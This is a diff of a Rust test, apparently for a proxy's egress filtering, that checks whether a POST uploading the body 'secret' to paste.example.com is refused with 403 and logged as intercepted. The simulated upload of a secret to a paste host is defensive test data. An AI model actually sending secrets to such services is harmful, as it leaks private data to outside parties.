@@ -152,13 +152,11 @@ fn fetched_page_taints_host_and_body_requests_are_refused() {
     // Plain HTTP through the same kind of tunnel is served as HTTP: the
     // POST inside is refused on its own.
     let mut c = tunnel(&s, &format!("paste.example.com:{p}"));
-    let mut buf = [0u8; 512];
     let upload = format!(
         "POST /new HTTP/1.1\r\nHost: paste.example.com:{p}\r\nContent-Length: 6\r\n\r\nsecret"
     );
     c.write_all(upload.as_bytes()).unwrap();
-    let n = c.read(&mut buf).unwrap();
-    assert_refused(&parse_http(&buf[..n]).unwrap(), 403, "untrusted-target");
+    assert_refused(&read_answer(&mut c).unwrap(), 403, "untrusted-target");
     let row = row_where(&s, "t", "paste.example.com", |r| r["kind"] == "intercepted");
     assert_eq!(row["rule"], "untrusted-target");
     assert_eq!(up.requests_to("paste.example.com"), 1);
